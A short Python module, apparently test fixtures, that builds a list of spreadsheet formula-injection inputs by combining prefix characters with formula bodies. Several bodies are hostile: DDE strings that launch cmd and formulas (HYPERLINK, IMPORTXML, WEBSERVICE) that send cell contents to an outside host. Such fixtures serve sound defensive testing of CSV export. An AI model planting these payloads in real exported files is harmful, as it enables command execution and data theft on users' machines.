"""Texts that spreadsheet programs would run."""

from __future__ import annotations

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", " =", "'=", "''+", "'-")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://example.org/?"&A1,"click")',
    "cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    'WEBSERVICE("http://example.org")',
    "-1",
    "3",
    "A1",
    "价格",
    '"quoted", and, commas',
    "line\nbreak",
    "x" * 300,
)
PAYLOADS = tuple(sign + body for sign in SIGNS for body in BODIES)
